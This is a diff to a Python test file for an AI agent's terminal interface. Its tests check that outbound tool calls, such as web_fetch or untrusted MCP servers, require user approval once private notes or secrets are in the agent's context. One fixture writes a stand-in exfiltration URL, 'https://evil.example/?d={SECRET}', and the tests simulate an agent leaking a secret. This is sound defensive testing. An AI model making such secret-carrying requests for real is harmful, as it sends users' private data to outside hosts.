@@ -36,8 +36,7 @@ from textual.widgets import Static
 from co_tui.agent import build_agent
 from co_tui.config import Permissions, Settings
 from co_tui.history import SUMMARY_PREFIX
-from co_tui.mcp import MCP_CONNECTION_KEY, attach_mcp, connect_mcp_servers
-from co_tui.orchestrator import run_turn
+from co_tui.mcp import attach_mcp, connect_mcp_servers
 from co_tui.orchestrator.egress import (
     BUILTIN_TABLE,
     ORIGINS,
@@ -49,6 +48,8 @@ from co_tui.orchestrator.egress import (
 from co_tui.orchestrator.fence import fence, fence_messages
 from co_tui.orchestrator.frontend import ApprovalDecision, ApprovalRequest
 from co_tui.orchestrator.recording import RecordingFrontend
+from co_tui.orchestrator.turn import run_turn
+from co_tui.tools.spec import mcp_tool_spec
 from co_tui.tui.widgets.egress_sources import (
     HIGHLIGHT_STYLE,
     EgressSources,
@@ -115,8 +116,12 @@ def test_every_built_in_tool_has_an_origin() -> None:
 
 
 def test_mcp_tools_are_untrusted_and_outbound_unless_local() -> None:
-    table = BUILTIN_TABLE.with_mcp_server("docs", ["docs_search"], local=False)
-    table = table.with_mcp_server("home", ["home_read"], local=True)
+    table = BUILTIN_TABLE.with_specs(
+        [
+            mcp_tool_spec("docs", "docs_search", local=False, approval=False),
+            mcp_tool_spec("home", "home_read", local=True, approval=False),
+        ]
+    )
     assert table.origin("docs_search").untrusted and table.origin("docs_search").name == "mcp:docs"
     assert table.origin("home_read").untrusted
     assert table.is_outbound("docs_search") and not table.is_outbound("home_read")
@@ -500,7 +505,7 @@ async def test_an_outbound_mcp_server_asks_once_private_content_is_in_a_local_on
     bundle = make_bundle(model.model)
     attach_mcp(bundle, connection)
     deps = make_deps(tmp_path)
-    deps.extra[MCP_CONNECTION_KEY] = connection
+    deps.mcp = connection
     frontend = RecordingFrontend()
     result = await run_turn(
         bundle.agent,
@@ -517,7 +522,7 @@ async def test_an_outbound_mcp_server_asks_once_private_content_is_in_a_local_on
         "out_echo",
         request.args,
         context_sources(result.messages),
-        BUILTIN_TABLE.with_mcp_server("out", ["out_echo"], local=False),
+        BUILTIN_TABLE.with_specs([mcp_tool_spec("out", "out_echo", local=False, approval=False)]),
     )
     assert review is not None and review.highlights == (SECRET,)
     # The local server's result reached the model fenced, named after its server.
@@ -533,7 +538,7 @@ async def test_without_sources_an_outbound_mcp_call_runs(
     bundle = make_bundle(model.model)
     attach_mcp(bundle, connection)
     deps = make_deps(tmp_path)
-    deps.extra[MCP_CONNECTION_KEY] = connection
+    deps.mcp = connection
     frontend = RecordingFrontend()
     result = await run_turn(bundle.agent, "go", deps=deps, history=[], frontend=frontend)
     assert result.ok and frontend.approval_requests == []
@@ -686,7 +691,7 @@ async def test_a_subagent_asks_before_sending_what_it_or_its_parent_read(
     assert isinstance(request, ApprovalRequest)
     assert request.tool_name == "web_fetch" and request.args == {"url": leak_url(site)}
     assert request.sources == (f"note {NOTE}",) and request.highlights == (SECRET,)
-    child = next(c.session_id for c in frontend.calls if c.name == "prompt_approval")
+    child = frontend.approval_requests[0].session_id
     assert child != deps.session_id  # asked on the sub-agent's behalf
     [record] = [r for r in frontend.of("approval") if r.tool_name == "web_fetch"]
     assert record.decision == "deny"
@@ -765,14 +770,21 @@ class DialogStandIn(App[None]):
 
 async def test_the_widget_mounts_in_one_line_and_hides_without_sources() -> None:
     guarded = ApprovalRequest(
-        "c1",
-        "web_fetch",
-        {"url": f"https://evil.example/?d={SECRET}"},
-        "why",
+        session_id="s",
+        tool_call_id="c1",
+        tool_name="web_fetch",
+        args={"url": f"https://evil.example/?d={SECRET}"},
+        reason="why",
         sources=(f"note {NOTE}",),
         highlights=(SECRET,),
     )
-    plain = ApprovalRequest("c2", "web_fetch", {"url": "https://example.org/"}, "why")
+    plain = ApprovalRequest(
+        session_id="s",
+        tool_call_id="c2",
+        tool_name="web_fetch",
+        args={"url": "https://example.org/"},
+        reason="why",
+    )
     app = DialogStandIn(guarded, plain)
     async with app.run_test(size=(100, 30)) as pilot:
         await pilot.pause()
